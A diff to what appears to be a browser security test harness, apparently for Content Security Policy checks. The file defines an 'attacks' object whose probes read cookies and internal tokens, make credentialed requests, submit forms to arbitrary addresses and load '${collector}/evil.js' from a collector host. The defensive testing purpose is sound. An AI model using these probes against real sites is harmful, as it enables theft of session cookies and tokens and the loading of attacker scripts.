@@ -48,6 +48,14 @@ function attacks(files: string, collector: string, stun: string) {
     cookies: async () => document.cookie,
     staff: () => readable('/api/v1/staff/reviews', { 'x-tafiya-ops': '1' }),
     tokens: () => readable('/releases/api/tokens', { 'x-tafiya-ops': '1' }),
+    opsCall: (address: string) => settled(fetch(address, { headers: { 'x-tafiya-ops': '1' }, credentials: 'include' })),
+    opsForm: (address: string) => {
+      const form = made('form', { action: address, method: 'post', target: '_blank' });
+      return violated(() => {
+        document.body.append(form);
+        form.submit();
+      }, 'form-action');
+    },
     // other code
     foreignScript: () => loaded(made('script', { src: `${collector}/evil.js` })),
     foreignModule: () => settled(import(/* webpackIgnore: true */ `${collector}/evil.js`)),
